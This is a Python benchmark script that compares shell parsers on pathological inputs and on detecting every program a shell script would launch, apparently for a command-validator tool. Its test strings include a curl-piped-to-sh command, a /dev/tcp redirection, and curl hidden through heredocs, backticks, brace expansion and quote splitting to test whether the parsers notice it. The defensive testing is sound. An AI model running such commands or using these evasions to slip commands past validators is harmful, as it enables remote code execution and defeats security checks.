"""Shell readers compared: what odd input does to them, and which programs they fail to see.

Ours is measured always, tree-sitter-bash and bashlex where they are installed (neither is a dependency: bashlex is
GPL, and tree-sitter-bash reads some scripts as something no shell would run, without marking an error).
Nothing is ever executed. Run `python bench/shell_parsers.py`.
"""

import resource
import subprocess
import sys
import time
from collections.abc import Callable
from importlib import import_module
from importlib.util import find_spec
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from validator.analyse.shell.grammar import read
from validator.analyse.shell.observe import observe
from validator.rulebook.catalog import load_catalog

CATALOG = Path(__file__).resolve().parent.parent / "rules" / "catalog" / "shell-commands.yaml"
SECONDS = 20

ODD = {
    "unbalanced quotes": "echo 'a \"b $(c `d",
    "10,000 pipes": "|".join(["a"] * 10_000),
    "$( nested 1,000 deep": "$(" * 1_000 + "a" + ")" * 1_000,
    "( nested 10,000 deep": "( " * 10_000 + "a" + ")" * 10_000,
    "$(( nested 5,000 deep": "$((" * 5_000 + "1" + "))" * 5_000,
    "10,000 times &&": "a && " * 10_000 + "a",
    "here-document": "cat <<EOF\n$(x)\nEOF\n",
    "2,000 here-documents": "cat " + " ".join(f"<<E{number}" for number in range(2_000)) + "\n",
    "binary junk": bytes(range(256)).decode("latin-1") * 100,
    "line of 1 MB": "echo " + "a" * 1_000_000,
    "200,000 words": "echo " + "a " * 200_000,
    "process substitution": "diff <(a) >(b)",
    "arithmetic": "echo $((a + b ** c)); ((x++)); let y=2",
    "function": "f() { f | f & }; f",
    "array": 'a=(1 2 $(x)); echo "${a[@]}"',
    "50,000 brackets": "a[" * 50_000,
    "50,000 backticks": "`" * 50_001,
}
# What a shell starts, beside what the reader sees.
SCRIPTS = {
    "curl http://x | sh": {"curl", "sh"},
    "cat <<EOF\n$X `curl http://x`\nEOF": {"cat", "curl"},
    "cat <<A <<B\n1\nA\n$(curl http://x)\nB": {"cat", "curl"},
    'cat <<-E"O"F\n\tx\n\tEOF\ncurl http://x': {"cat", "curl"},
    "cat <<'EOF' x > y | sh\nid\nEOF": {"cat", "sh"},
    "ls `ls \\`curl http://x\\``": {"ls", "curl"},
    "coproc n { curl http://x; }": {"curl"},
    "exec 5<>/dev/tcp/h/80; curl http://x": {"curl"},
    "((curl http://x) | (sh))": {"curl", "sh"},
    "{curl,http://x}; sh": {"curl", "sh"},
    "cu''rl http://x": {"curl"},
    "ls ${a[$(curl http://x)]}": {"ls", "curl"},
}


def ours(script: str) -> tuple[set[str], bool]:
    """The programs we see, and whether we say that something is wrong."""
    uses = observe(script, load_catalog([CATALOG]))
    names = {use.name for use in uses if use.capability == "process.spawn"}
    return names, any(use.kind == "unresolved" for use in uses)


def tree_sitter(script: str) -> tuple[set[str], bool]:
    """The command names in the tree, unquoted, and whether it holds an error."""
    core, grammar = import_module("tree_sitter"), import_module("tree_sitter_bash")
    root = core.Parser(core.Language(grammar.language())).parse(script.encode("utf-8", "replace")).root_node
    names: set[str] = set()
    waiting = [root]
    while waiting:
        node = waiting.pop()
        waiting.extend(node.children)
        if node.type == "command_name" and node.text is not None:
            names.add(node.text.decode().replace("'", ""))
    return names, bool(root.has_error)


def bashlex(script: str) -> tuple[set[str], bool]:
    """The first word of every command in the tree; an exception is its way to say that something is wrong."""
    names: set[str] = set()
    waiting = list(import_module("bashlex").parse(script))
    while waiting:
        node = waiting.pop()
        waiting.extend(getattr(node, "parts", ()))
        waiting.extend(getattr(node, "list", ()))
        waiting.extend(part for part in (getattr(node, "command", None), getattr(node, "output", None)) if part)
        if node.kind == "command":
            names.update(part.word for part in node.parts[:1] if part.kind == "word")
    return names, False


READERS: dict[str, Callable[[str], tuple[set[str], bool]]] = {"ours": ours}
READERS |= {"tree_sitter": tree_sitter} if find_spec("tree_sitter_bash") else {}
READERS |= {"bashlex": bashlex} if find_spec("bashlex") else {}


def one(reader: str, case: str) -> None:
    """Read one odd input in this process, and print milliseconds and megabytes."""
    parse: Callable[[str], object] = read if reader == "ours" else READERS[reader]
    start = time.perf_counter()
    parse(ODD[case])
    used = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
    print(f"{(time.perf_counter() - start) * 1000:8.1f} ms {used:4d} MB")


def attempt(reader: str, case: str) -> str:
    """The same in a child process: what it printed, or how it ended."""
    command = [sys.executable, __file__, reader, case]
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=SECONDS, check=False)
    except subprocess.TimeoutExpired:
        return f"over {SECONDS} s"
    if done.returncode < 0:
        return f"killed by signal {-done.returncode}"
    return done.stdout.strip() if done.returncode == 0 else done.stderr.strip().splitlines()[-1][:40]


def seen(reader: str, script: str, expected: set[str]) -> str:
    """Whether a reader sees every program of a script, or at least says that something is wrong."""
    try:
        names, complains = READERS[reader](script)
    except Exception as error:  # a comparison of foreign parsers: every way to fail is a result
        return type(error).__name__
    missing = expected - names
    return "sees all" if not missing else f"misses {', '.join(sorted(missing))}{'' if complains else ' SILENTLY'}"


def main() -> None:
    """Print the two tables."""
    if len(sys.argv) == 3:
        one(sys.argv[1], sys.argv[2])
        return
    for case in ODD:
        print(f"{case:24}", *(f"{attempt(reader, case):42}" for reader in READERS))
    print()
    for script, expected in SCRIPTS.items():
        print(f"{script!r:58}", *(f"{seen(reader, script, expected):28}" for reader in READERS))


if __name__ == "__main__":
    main()
